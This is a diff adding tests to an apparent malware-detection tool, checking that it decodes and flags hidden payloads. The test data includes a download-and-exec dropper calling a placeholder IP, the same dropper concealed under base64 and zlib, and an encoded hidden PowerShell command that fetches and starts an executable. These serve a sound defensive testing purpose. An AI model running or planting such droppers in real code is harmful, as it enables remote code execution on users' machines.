@@ -3,8 +3,10 @@
 from __future__ import annotations
 
 import ast
+import base64
 import hashlib
 import textwrap
+import zlib
 
 import pytest
 
@@ -1736,3 +1738,48 @@ def test_a_module_the_build_imports_runs_its_module_level_code_at_install_time()
         (2, Phase.INSTALL),
         (4, Phase.RUNTIME),
     ]
+
+
+# --- Decoded payloads --------------------------------------------------------------------------
+
+_DROPPER = "import urllib.request\nexec(urllib.request.urlopen('https://203.0.113.5/x').read())\n"
+
+
+def test_an_executed_payload_is_decoded_and_rated_as_the_code_it_is() -> None:
+    blob = base64.b64encode(zlib.compress(_DROPPER.encode())).decode()
+    source = f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{blob}')))\n"
+    result = profile(source)
+    hidden = one(result, "download-exec")
+    assert hidden.key.endswith("(hidden under base64+zlib)")
+    assert hidden.line == 2
+    assert hidden.phase is Phase.IMPORT
+    assert hidden.concealed is not None
+    assert hidden.snippet is not None
+    assert "urlopen('https://203.0.113.5/x')" in hidden.snippet
+    [decode] = [cap for cap in found(result, "decode-exec") if cap.key == "exec(zlib.decompress)"]
+    assert decode.snippet is not None
+    assert decode.snippet.startswith("[decoded zlib.decompress] import urllib.request")
+
+
+def test_an_encoded_literal_nothing_visibly_runs_is_decoded_too() -> None:
+    # Long enough to be worth the analysis on its own (the prefilter's long-line rule).
+    padded = _DROPPER + "# " + "padding " * 30 + "\n"
+    literal = base64.b64encode(padded.encode()).decode()
+    cap = one(profile(f"DATA = '{literal}'\n"), "download-exec")
+    assert cap.severity is Severity.CRITICAL
+    assert cap.snippet is not None
+    assert cap.snippet.startswith("[decoded base64]")
+
+
+def test_a_powershell_encoded_command_is_decoded() -> None:
+    script = "Invoke-WebRequest https://a.example/a.exe -OutFile a.exe; Start-Process a.exe"
+    encoded = base64.b64encode(script.encode("utf-16le")).decode()
+    source = f"import subprocess\nsubprocess.Popen('powershell -w hidden -enc {encoded}')\n"
+    cap = one(profile(source, "setup.py"), "decode-exec")
+    assert cap.severity is Severity.CRITICAL
+    assert cap.snippet == f"[decoded powershell-encodedcommand] {script}"
+
+
+def test_encoded_data_that_is_not_code_adds_nothing() -> None:
+    literal = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 2).decode()
+    assert rules(profile(f"ICON = '{literal}'\n")) <= {"high-entropy-string"}
